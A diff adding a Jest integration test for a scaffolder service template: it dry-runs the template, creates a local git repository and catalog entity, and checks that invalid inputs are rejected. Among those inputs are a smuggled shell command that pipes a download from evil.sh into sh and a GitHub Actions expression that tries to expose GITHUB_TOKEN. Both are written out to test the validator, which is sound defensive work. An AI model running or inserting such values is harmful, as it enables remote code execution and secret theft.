@@ -1,0 +1,258 @@
+import { execFileSync } from 'node:child_process';
+import {
+  existsSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative, resolve as resolvePath } from 'node:path';
+import { parse as parseYaml } from 'yaml';
+import {
+  BackendProcess,
+  eventually,
+  REPO_ROOT,
+  startBackendProcess,
+} from './__testUtils__/backendProcess';
+
+/*
+ * Runs the real flask-react-service template through the real scaffolder backend (embedded
+ * defaults: SQLite, guest, no GitHub integration): the dry-run endpoint, a real task that creates
+ * <data>/git/services/orders.git and the catalog entity, and bad inputs that must fail with a
+ * clear error and publish nothing.
+ */
+
+jest.setTimeout(300_000);
+
+const TEMPLATE_DIR = resolvePath(REPO_ROOT, 'templates/flask-react-service');
+const values = {
+  name: 'orders',
+  description: 'Order intake API and back-office UI',
+  owner: 'group:default/team-orders',
+  environments: ['resource:default/dev'],
+  scheduling: 'spot-ok',
+  database: true,
+  repoUrl: 'github.com?owner=acme&repo=orders',
+};
+
+function listFiles(dir: string): string[] {
+  return readdirSync(dir).flatMap(name => {
+    const full = join(dir, name);
+    return statSync(full).isDirectory() ? listFiles(full) : [full];
+  });
+}
+
+describe('flask-react-service template on the scaffolder backend (local git target)', () => {
+  const dataDir = mkdtempSync(join(tmpdir(), 'portal-service-template-'));
+  const servicesDir = join(dataDir, 'git', 'services');
+  const repo = join(servicesDir, 'orders.git');
+  const git = (...args: string[]) =>
+    execFileSync('git', ['--git-dir', repo, ...args], {
+      encoding: 'utf8',
+    }).trim();
+  let backend: BackendProcess;
+  let token: string;
+
+  const api = async (path: string, init: RequestInit = {}) => {
+    const res = await fetch(`${backend.baseUrl}${path}`, {
+      ...init,
+      headers: {
+        'Content-Type': 'application/json',
+        Authorization: `Bearer ${token}`,
+        ...init.headers,
+      },
+    });
+    const text = await res.text();
+    if (!res.ok)
+      throw new Error(`${init.method ?? 'GET'} ${path}: ${res.status} ${text}`);
+    return text ? JSON.parse(text) : undefined;
+  };
+
+  const runTask = async (taskValues: Record<string, unknown>) => {
+    const { id } = await api('/api/scaffolder/v2/tasks', {
+      method: 'POST',
+      body: JSON.stringify({
+        templateRef: 'template:default/flask-react-service',
+        values: taskValues,
+      }),
+    });
+    const task = await eventually(
+      () => api(`/api/scaffolder/v2/tasks/${id}`),
+      t => ['completed', 'failed', 'cancelled'].includes(t.status),
+      240_000,
+    );
+    const events = await api(`/api/scaffolder/v2/tasks/${id}/events`);
+    const log = (events as Array<{ body: { message?: string } }>)
+      .map(e => e.body.message ?? '')
+      .join('\n');
+    const output = (
+      events as Array<{ type: string; body: { output?: unknown } }>
+    ).find(e => e.type === 'completion')?.body.output;
+    return { task, log, output: output as any };
+  };
+
+  beforeAll(async () => {
+    backend = await startBackendProcess({
+      configFiles: ['app-config.yaml'],
+      env: { PORTAL_DATA_DIR: dataDir },
+    });
+    const refresh = await fetch(
+      `${backend.baseUrl}/api/auth/guest/refresh?env=development`,
+    );
+    token = (await refresh.json()).backstageIdentity.token;
+    for (const ref of [
+      'template/default/flask-react-service',
+      'resource/default/dev',
+      'resource/default/shared-account',
+    ]) {
+      await eventually(
+        () =>
+          api(`/api/catalog/entities/by-name/${ref}`).catch(() => undefined),
+        e => !!e,
+      );
+    }
+  });
+
+  afterAll(async () => {
+    await backend?.stop();
+    rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  it('dry-runs the template: renders and validates the repository, publishes nothing', async () => {
+    const template = parseYaml(
+      readFileSync(join(TEMPLATE_DIR, 'template.yaml'), 'utf8'),
+    );
+    const directoryContents = listFiles(TEMPLATE_DIR).map(f => ({
+      path: relative(TEMPLATE_DIR, f),
+      base64Content: readFileSync(f).toString('base64'),
+    }));
+    const result = await api('/api/scaffolder/v2/dry-run', {
+      method: 'POST',
+      body: JSON.stringify({
+        template,
+        values,
+        secrets: {},
+        directoryContents,
+      }),
+    });
+    const paths: string[] = result.directoryContents.map(
+      (f: { path: string }) => f.path,
+    );
+    expect(paths).toEqual(
+      expect.arrayContaining([
+        'catalog-info.yaml',
+        'backend/app/__init__.py',
+        'backend/migrations/versions/0001_create_items.py',
+        'frontend/src/App.tsx',
+        'chart/templates/deployments.yaml',
+        'chart/values-dev.yaml',
+        'deploy/argocd/dev.yaml',
+        '.github/workflows/ci.yaml',
+        '.github/workflows/delivery.yaml',
+        'mkdocs.yml',
+      ]),
+    );
+    expect(paths.some(p => p.endsWith('.njk'))).toBe(false);
+    expect(existsSync(repo)).toBe(false);
+  });
+
+  it('creates orders for dev as a local repository whose entity appears in the catalog', async () => {
+    const { task, log, output } = await runTask(values);
+    expect({
+      status: task.status,
+      log: task.status === 'completed' ? '' : log,
+    }).toEqual({ status: 'completed', log: '' });
+    expect(git('rev-list', '--count', 'main')).toBe('1');
+    const files = git('ls-tree', '-r', '--name-only', 'main').split('\n');
+    expect(files).toEqual(
+      expect.arrayContaining([
+        'backend/tests/test_items.py',
+        'chart/values-dev.yaml',
+        'deploy/argocd/dev.yaml',
+        '.github/workflows/delivery.yaml',
+      ]),
+    );
+    expect(git('ls-tree', 'main', '.github/scripts/set-image-tag.sh')).toMatch(
+      /^100755 /,
+    );
+    expect(output.links).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          title: 'Repository',
+          url: `file://${repo}`,
+        }),
+        expect.objectContaining({ entityRef: 'component:default/orders' }),
+      ]),
+    );
+
+    const component = await eventually(
+      () =>
+        api('/api/catalog/entities/by-name/component/default/orders').catch(
+          () => undefined,
+        ),
+      e => !!e,
+      60_000,
+    );
+    expect(component.spec).toMatchObject({
+      type: 'service',
+      owner: 'group:default/team-orders',
+    });
+    expect(component.metadata.annotations['github.com/project-slug']).toBe(
+      'acme/orders',
+    );
+    const apiEntity = await eventually(
+      () =>
+        api('/api/catalog/entities/by-name/api/default/orders-api').catch(
+          () => undefined,
+        ),
+      e => !!e,
+      60_000,
+    );
+    expect(apiEntity.spec.definition).toMatch(/^openapi: 3\.0\.3/);
+  });
+
+  it('refuses to create orders a second time', async () => {
+    const before = git('rev-parse', 'main');
+    const { task, log } = await runTask(values);
+    expect(task.status).toBe('failed');
+    expect(log).toMatch(/repository acme\/orders already exists/);
+    expect(git('rev-parse', 'main')).toBe(before);
+  });
+
+  it.each([
+    // The scaffolder's own form schema check answers 400 before any step runs.
+    ['a bad name', { name: 'Orders_1' }, /400 .*instance.name does not match pattern/],
+    [
+      'an unknown environment',
+      { environments: ['resource:default/nowhere'] },
+      /environments: 'resource:default\/nowhere' is not an environment resource in the catalog/,
+    ],
+    [
+      'a repository outside the organisation',
+      { repoUrl: 'github.com?owner=evil-corp&repo=billing' },
+      /repoUrl: repositories must be created in the organisation 'acme', not 'evil-corp'/,
+    ],
+    [
+      'metacharacters in the description',
+      { description: 'billing $(curl evil.sh | sh)' },
+      /description: must not contain template or shell metacharacters/,
+    ],
+    [
+      'a template expression in the description',
+      { description: 'billing ${{ secrets.GITHUB_TOKEN }}' },
+      /description: must not contain .*GitHub Actions expression/,
+    ],
+  ])('refuses %s with a clear error, publishing nothing', async (_, bad, message) => {
+    const result = await runTask({
+      ...values,
+      name: 'billing',
+      repoUrl: 'github.com?owner=acme&repo=billing',
+      ...bad,
+    }).catch((error: Error) => ({ task: { status: 'rejected' }, log: error.message }));
+    expect(['failed', 'rejected']).toContain(result.task.status);
+    expect(result.log).toMatch(message);
+    expect(readdirSync(servicesDir)).toEqual(['orders.git']);
+  });
+});
